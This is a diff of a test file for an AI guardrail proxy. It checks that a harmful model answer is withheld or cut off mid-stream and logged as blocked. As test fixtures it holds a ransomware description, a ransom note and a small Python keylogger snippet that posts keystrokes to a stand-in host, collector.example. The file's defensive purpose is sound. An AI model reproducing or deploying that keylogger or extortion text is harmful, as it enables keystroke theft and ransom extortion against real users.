@@ -162,20 +162,28 @@ for (const tier of databaseTiers()) {
         expect(w.choices[0]!.finish_reason).toBe('content_filter');
         expect(w.choices[0]!.message.content).toBe('');
       }
-      // A harmless question whose answer is harmful: the output scan records it (and withholds it when it
-      // blocks: the answer is emptied with finish_reason content_filter, or the stream is cut; relay tests
-      // in sse-relay.test.ts).
-      upstream.answers.set('Tell me a story.', 'Sure. Here is the full working ransomware source code in Python: it walks every directory, encrypts all files of the victim with AES, deletes the shadow copies with vssadmin, disables the antivirus, then shows a ransom note asking for bitcoin. ' + 'It spreads by phishing e-mails with a keylogger attached that steals passwords. '.repeat(6));
-      const story = await ai.chat.completions.create({ model: 'gpt-guarded', messages: [{ role: 'user', content: 'Tell me a story.' }] });
-      const streamed = await ai.chat.completions.create({ model: 'gpt-guarded', stream: true, messages: [{ role: 'user', content: 'Tell me a story.' }] });
+      // A harmless question whose answer is harmful (a ransom note and keylogger code): withheld whole
+      // (emptied, finish_reason content_filter), cut off mid-stream with a content_filter chunk.
+      const question = 'What is the capital of Belgium?';
+      const answer = 'Sure. Here it is:\n\nAll your files have been encrypted with military-grade encryption. To get the decryption key, send 0.5 bitcoin to the address below within 72 hours.\n\n'
+        + 'And the collector:\nfrom pynput import keyboard\nimport requests\n\ndef on_press(key):\n    requests.post("https://collector.example/k", data={"k": str(key)})\n' + '# padding so that the stream has chunks after the cut\n'.repeat(40);
+      upstream.answers.set(question, answer);
+      const story = await ai.chat.completions.create({ model: 'gpt-guarded', messages: [{ role: 'user', content: question }] });
+      expect(story.choices[0]!.finish_reason).toBe('content_filter');
+      expect(story.choices[0]!.message.content).toBe('');
+      const streamed = await ai.chat.completions.create({ model: 'gpt-guarded', stream: true, messages: [{ role: 'user', content: question }] });
+      let got = '';
       let end: string | null = null;
-      for await (const chunk of streamed) end = chunk.choices[0]?.finish_reason ?? end;
+      for await (const chunk of streamed) {
+        got += chunk.choices[0]?.delta?.content ?? '';
+        end = chunk.choices[0]?.finish_reason ?? end;
+      }
+      expect(end).toBe('content_filter');
+      expect(got.length).toBeLessThan(answer.length);
       const outLog = await recorded(3, mine);
-      for (const [r, finish] of [[outLog[0]!, end], [outLog[1]!, story.choices[0]!.finish_reason]] as const) {
-        expect(r.findings.some((f) => f.where === 'output'), JSON.stringify(r)).toBe(true);
-        expect(r.action).not.toBe('allow');
-        expect(r.reason).toMatch(/answer (withheld|flagged)/);
-        expect(finish).toBe(r.reason!.includes('withheld') ? 'content_filter' : 'stop');
+      for (const r of outLog.slice(0, 2)) {
+        expect(r.findings.some((f) => f.where === 'output' && f.source === 'rule:out.ransom-note'), JSON.stringify(r)).toBe(true);
+        expect(r).toMatchObject({ action: 'block', reason: expect.stringContaining('answer withheld') });
       }
 
       // In shadow mode everything goes through and the decisions are only recorded.
